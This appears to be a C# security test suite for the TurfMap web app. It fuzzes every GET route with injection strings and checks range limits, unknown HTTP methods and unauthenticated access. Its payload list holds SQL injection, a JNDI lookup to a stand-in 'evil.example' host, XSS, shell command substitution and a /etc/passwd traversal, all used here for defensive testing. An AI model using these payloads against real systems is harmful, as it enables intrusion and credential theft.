using System.Net;
using System.Text.RegularExpressions;
using TurfMap.Domain.Access;
using TurfMap.Tests;

namespace TurfMap.App.Tests.Attacks;

/// <summary>
/// Each parameter of each reading route gets strings that mean something to a database, a shell, a template or a browser; each must get the
/// answer of a harmless unknown word.
/// </summary>
public sealed partial class EveryRouteTests(BesiegedCity city) : IClassFixture<BesiegedCity>
{
    private static readonly string[] Strings =
    [
        "' OR '1'='1",
        "'; DROP TABLE account; --",
        "\" OR \"\"=\"",
        "1) UNION SELECT name, password_hash FROM account --",
        "%' OR 1=1 --",
        "x' AND (SELECT count(*) FROM account) > 0 --",
        "'||(SELECT pg_sleep(5))||'",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "$(id)",
        "`id`",
        "|id",
        "../../etc/passwd",
        "%00",
        "__proto__",
        "constructor",
        "toString",
        "*",
        "%",
        "_",
        "NaN",
        "Infinity",
        "-0",
        "9".PadRight(400, '9'),
        "0x10",
        "1e309",
        "\ud83d\udca9",
        "\u202e",
        "a;b",
        "true",
        "null",
        "[]",
        "{}",
        "=1+1",
    ];

    [Theory]
    [InlineData(null)]
    [InlineData(Role.Liaison)]
    [InlineData(Role.Manager)]
    [InlineData(Role.Director)]
    [InlineData(Role.Administrator)]
    [InlineData(Role.Client)]
    public async Task A_string_that_means_something_elsewhere_is_a_word_like_any_other(Role? role)
    {
        var token = role is { } one ? TestAccess.TokenOf(one) : null;
        var asked = 0;
        foreach (
            var route in Route
                .Of(city.App)
                .Where(route => route.Method == "GET" && !route.Path.EndsWith("/export", StringComparison.Ordinal))
        )
        {
            foreach (
                var parameter in route.Path.Contains("/x", StringComparison.Ordinal)
                    ? route.Parameters.Append("{hole}")
                    : route.Parameters.Append("unknown")
            )
            {
                using var visitor = city.Visitor(); // the routes of signing in count the tries of an address
                var harmless = await AskAsync(visitor, route, parameter, "harmless", token);
                foreach (var text in route.Path.StartsWith("/api/sign-in", StringComparison.Ordinal) ? Strings.Take(20) : Strings)
                {
                    var answer = await AskAsync(visitor, route, parameter, text, token);
                    Assert.True(
                        answer == harmless
                            || Number().IsMatch(text)
                            || answer.StartsWith("400", StringComparison.Ordinal) && parameter == "{hole}",
                        $"{route} {parameter}={text} as {role}: {answer} and not {harmless}"
                    );
                    asked++;
                }
            }
        }
        Assert.True(asked > 1500, $"{asked}");
    }

    [Theory]
    [InlineData("at=0001-01-01")]
    [InlineData("at=9999-12-31")]
    [InlineData("at=2026-02-30")]
    [InlineData("zoom=-1")]
    [InlineData("zoom=2147483647")]
    [InlineData("zoom=-2147483648")]
    [InlineData("limit=-1")]
    [InlineData("limit=2147483647")]
    [InlineData("before=-9223372036854775808")]
    [InlineData("before=9223372036854775807")]
    [InlineData("lon=180&lat=90")]
    [InlineData("lon=-180&lat=-90")]
    [InlineData("lon=1e308&lat=1e308")]
    [InlineData("lon=-0&lat=0")]
    public async Task The_ends_of_every_range_are_answered_or_refused(string query)
    {
        using var visitor = city.Visitor();
        foreach (var role in Enum.GetValues<Role>())
        foreach (
            var route in Route
                .Of(city.App, "alder_parts")
                .Where(route =>
                    route.Method == "GET"
                    && !route.Path.StartsWith("/api/sign-in", StringComparison.Ordinal)
                    && !route.Path.EndsWith("/export", StringComparison.Ordinal)
                )
        )
            Assert.True(
                (int)(await visitor.GetAsync($"{route.Path}?{query}", ("Authorization", $"Bearer {TestAccess.TokenOf(role)}"))).StatusCode
                    is 200
                        or 400
                        or 403
                        or 404
            );
    }

    [Theory]
    [InlineData("TRACE")]
    [InlineData("PATCH")]
    [InlineData("OPTIONS")]
    [InlineData("PROPFIND")]
    [InlineData("DEBUG")]
    [InlineData("'; DROP")]
    public async Task A_method_that_no_route_has_is_refused_and_echoes_nothing(string method)
    {
        var before = await city.StandingAsync();
        foreach (var path in Route.Of(city.App).Select(route => route.Path).Distinct())
        {
            var answer = await RawLine.AskAsync(
                city.Address,
                $"{method} {path} HTTP/1.1\r\nHost: {city.Address.Authority}\r\nX-Secret: echo-me\r\nAuthorization: Bearer "
                    + $"{TestAccess.TokenOf(Role.Administrator)}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            );
            Assert.True(RawLine.StatusOf(answer) is 400 or 404 or 405 or 501, $"{method} {path}: {answer}");
            Assert.DoesNotContain("echo-me", answer, StringComparison.Ordinal);
        }
        Assert.Equal(before, await city.StandingAsync());
    }

    [Fact]
    public async Task Whoever_is_not_signed_in_gets_nothing_from_any_route_but_those_of_signing_in()
    {
        foreach (var route in Route.Of(city.App).Where(route => route.Needs is not null))
        {
            using var visitor = city.Visitor();
            await Visitor.RefusedAsync(await visitor.AskAsync(route.Method, route.Path, null), HttpStatusCode.Unauthorized);
        }
        var open = Route.Of(city.App).Where(route => route.Needs is null).Select(route => route.Path.TrimEnd('/')).Distinct().Order();
        Assert.Equal(
            [
                "/api/me",
                "/api/sign-in",
                "/api/sign-in/demo",
                "/api/sign-in/first",
                "/api/sign-in/link",
                "/api/sign-in/link/look",
                "/api/sign-in/provider",
                "/api/sign-in/provider/callback",
                "/healthz",
                "/openapi/v1.json",
                "/readyz",
            ],
            open
        );
    }

    /// <summary>The status, and of a refusal its sentence without the word that was asked for.</summary>
    private static async Task<string> AskAsync(Visitor visitor, Route route, string parameter, string text, string? token)
    {
        var word = Uri.EscapeDataString(text);
        var path =
            parameter == "{hole}" ? route.Path.Replace("/x", "/" + word, StringComparison.Ordinal) : $"{route.Path}?{parameter}={word}";
        var answer = await visitor.GetAsync(path, token is null ? [] : [("Authorization", $"Bearer {token}")]);
        var type =
            answer.Content.Headers.ContentType?.MediaType != "application/problem+json"
                ? ""
                : (await Visitor.JsonOf(answer)).GetProperty("type").GetString();
        return $"{(int)answer.StatusCode} {type}";
    }

    [GeneratedRegex(@"^(-0|9+|NaN|Infinity|1e309|true|)$")]
    private static partial Regex Number();
}
